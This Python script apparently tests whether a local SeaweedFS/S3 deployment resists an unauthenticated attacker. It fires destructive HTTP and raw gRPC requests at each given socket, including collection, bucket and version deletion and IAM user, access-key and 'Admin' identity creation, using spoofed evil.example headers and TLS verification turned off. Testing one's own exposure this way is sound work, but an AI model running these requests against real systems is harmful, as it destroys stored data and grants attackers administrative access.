"""Another user of this machine, or a web page opened on it: an attacker without credentials.

A separate program with only the standard library, so that a user without access to our files can
run it. It reads the sockets and the target as JSON from standard input, sends every known
destructive request to each socket, and writes the answers as JSON.
"""

from __future__ import annotations

import contextlib
import json
import socket
import ssl
import struct
import sys
from concurrent.futures import ThreadPoolExecutor
from typing import Any
from urllib.parse import quote

SECONDS = 5
INTRUDER = "indringer"
METHODS = ("GET", "POST", "PUT", "DELETE")
WITH_THE_RIGHT_HOST = ("GET", "DELETE")
HOSTILE = {
    "Host": "evil.example",
    "Origin": "http://evil.example",
    "Referer": "http://evil.example/",
}


def paths(bucket: str, objects: list[list[str]]) -> list[str]:
    """Requests that would change or reveal something in some version of some part of the
    service."""
    found = [
        # SeaweedFS: master, volume server, filer, admin
        f"/col/delete?collection={bucket}",
        "/col/delete?collection=",
        "/submit?count=1",
        "/dir/assign?count=1&collection=" + bucket,
        *(f"/dir/lookup?volumeId={number}&read=yes" for number in range(1, 8)),
        *(f"/{number},01637037d6" for number in range(1, 8)),
        "/vol/grow?count=1&collection=" + bucket,
        "/vol/vacuum?garbageThreshold=0",
        "/cluster/healthz",
        "/admin/assign_volume?volume=1",
        f"/admin/delete_collection?collection={bucket}",
        "/admin/delete_volume?volume=1",
        "/delete?fid=1,01637037d6",
        f"/buckets/{bucket}?recursive=true&ignoreRecursiveError=true",
        f"/buckets/{bucket}/?recursive=true",
        "/buckets/.versions/?recursive=true",
        "/etc/iam/identity.json",
        f"/api/s3/buckets/{bucket}",
        "/api/config/collections/delete",
        "/.tus/x",
        "/debug/pprof/cmdline",
        "/ui/index.html",
        # S3 and its identities
        f"/{bucket}",
        f"/{bucket}?delete",
        f"/{bucket}?versioning",
        f"/{bucket}?object-lock",
        f"/{bucket}?lifecycle",
        f"/{bucket}?policy",
        "/?Action=CreateUser&UserName=x&Version=2010-05-08",
        "/?Action=CreateAccessKey&UserName=x&Version=2010-05-08",
        "/?Action=AssumeRole&RoleArn=x&RoleSessionName=x&Version=2011-06-15",
        # our own pages
        "/medewerkers",
        "/beheer",
    ]
    for key, version in objects:
        its = quote(key)
        found += [
            f"/{bucket}/{its}",
            f"/{bucket}/{its}?versionId={version}",
            f"/{bucket}/{its}?retention&versionId={version}",
            f"/buckets/{bucket}/{its}",
            f"/buckets/{bucket}/{its}.versions?recursive=true",
        ]
    return found


def field(number: int, value: bytes | str | int) -> bytes:
    if isinstance(value, int):
        return bytes([number << 3, value])
    data = value.encode() if isinstance(value, str) else value
    return bytes([number << 3 | 2]) + _length(len(data)) + data


def _length(size: int) -> bytes:
    """A protobuf varint."""
    found = b""
    while size > 127:
        found += bytes([size & 127 | 128])
        size >>= 7
    return found + bytes([size])


def calls(bucket: str) -> dict[str, bytes]:
    """Destructive gRPC calls and their messages, by their path."""
    credential = field(1, INTRUDER) + field(2, INTRUDER)
    identity = field(1, INTRUDER) + field(2, credential) + field(3, "Admin")
    entry = field(1, "/buckets") + field(2, bucket) + field(4, 1) + field(5, 1) + field(6, 1)
    return {
        "/master_pb.Seaweed/CollectionDelete": field(1, bucket),
        "/volume_server_pb.VolumeServer/DeleteCollection": field(1, bucket),
        "/volume_server_pb.VolumeServer/VolumeDelete": field(1, 1),
        "/filer_pb.SeaweedFiler/DeleteEntry": entry,
        "/filer_pb.SeaweedFiler/DeleteCollection": field(1, bucket),
        "/messaging_pb.SeaweedS3IamCache/PutIdentity": field(1, identity),
        "/iam_pb.SeaweedIdentityAccessManagement/CreateUser": field(1, identity),
        "/master_pb.Seaweed/LeaseAdminToken": b"",
    }


class Door:
    """One listening socket: ``[address, port]``, or the path of a Unix socket."""

    def __init__(self, where: Any) -> None:
        self.where = where
        self.name = where if isinstance(where, str) else f"{where[0]}:{where[1]}"

    def connect(self) -> socket.socket:
        if isinstance(self.where, str):
            made = socket.socket(socket.AF_UNIX)
            made.settimeout(SECONDS)
            made.connect(self.where.replace("@", "\0", 1) if self.where[0] == "@" else self.where)
            return made
        return socket.create_connection(tuple(self.where), timeout=SECONDS)

    def http(self, method: str, path: str, headers: dict[str, str]) -> tuple[int, str]:
        """The status and the beginning of the answer; 0 if the socket does not speak HTTP."""
        head = {"Host": "127.0.0.1", "Connection": "close", "Content-Length": "0", **headers}
        lines = [f"{method} {path} HTTP/1.1", *(f"{name}: {said}" for name, said in head.items())]
        with self.connect() as talk:
            talk.sendall(("\r\n".join(lines) + "\r\n\r\n").encode())
            answer = b""
            with contextlib.suppress(OSError):  # what was received before the error is kept
                while len(answer) < 4000 and (more := talk.recv(4000)):
                    answer += more
        if not answer.startswith(b"HTTP/"):
            return 0, answer[:100].decode(errors="replace")
        return int(answer.split()[1]), answer.partition(b"\r\n\r\n")[2].decode(errors="replace")

    def grpc(self, path: str, message: bytes, *, encrypted: bool) -> bool:
        """Whether the call was answered; HTTP/2 (RFC 9113) with uncompressed headers."""
        with self.connect() as plain:
            talk = _without_certificate(plain) if encrypted else plain
            with talk:
                talk.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b""))
                talk.sendall(_frame(1, 4, 1, _headers(path)))
                body = b"\0" + struct.pack(">I", len(message)) + message
                talk.sendall(_frame(0, 1, 1, body))
                return _is_answered(talk)


def _without_certificate(plain: socket.socket) -> ssl.SSLSocket:
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(plain, server_hostname="localhost")


def _frame(kind: int, flags: int, stream: int, content: bytes) -> bytes:
    return (
        struct.pack(">I", len(content))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream)
        + content
    )


def _headers(path: str) -> bytes:
    given = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": "localhost",
        "content-type": "application/grpc",
        "te": "trailers",
    }
    return b"".join(
        b"\0" + bytes([len(name)]) + name.encode() + bytes([len(said)]) + said.encode()
        for name, said in given.items()
    )


def _is_answered(talk: socket.socket) -> bool:
    read = b""
    while more := talk.recv(65536):
        read += more
        while len(read) >= 9:
            size = int.from_bytes(read[:3], "big")
            if len(read) < 9 + size:
                break
            kind, stream = read[3], int.from_bytes(read[5:9], "big")
            if kind in (0, 1) and stream == 1:
                return True
            read = read[9 + size :]
    return False


def attack(where: Any, bucket: str, objects: list[list[str]]) -> list[dict[str, Any]]:
    """Every request on one socket. A protocol that it does not speak is tried once."""
    door = Door(where)
    answers: list[dict[str, Any]] = []

    def note(request: str, status: int, said: str = "") -> None:
        answers.append({"door": door.name, "request": request, "status": status, "said": said})

    try:
        for headers, methods in ((HOSTILE, METHODS), ({}, WITH_THE_RIGHT_HOST)):
            for path in paths(bucket, objects):
                for method in methods:
                    status, said = door.http(method, path, headers)
                    note(f"{method} {path}", status, said)
                    if status == 0:
                        raise NotSpoken
    except NotSpoken:
        pass  # recorded as such
    except OSError as error:
        note("http", -1, str(error))
    for encrypted in (False, True):
        for path, message in calls(bucket).items():
            kind = "grpc with TLS" if encrypted else "grpc"
            try:
                answered = door.grpc(path, message, encrypted=encrypted)
            except OSError as error:  # ssl.SSLError is one
                note(f"{kind} {path}", -1, str(error))
                break
            note(f"{kind} {path}", 200 if answered else 0)
            if not answered:
                break
    return answers


class NotSpoken(Exception):
    """A socket that speaks another protocol."""


if __name__ == "__main__":
    given = json.load(sys.stdin)

    def attack_one(door: Any) -> list[dict[str, Any]]:
        return attack(door, given["bucket"], given["objects"])

    # All sockets at once: one that accepts but never answers delays only itself.
    with ThreadPoolExecutor(len(given["doors"])) as pool:
        found = [answer for answers in pool.map(attack_one, given["doors"]) for answer in answers]
    json.dump(found, sys.stdout)
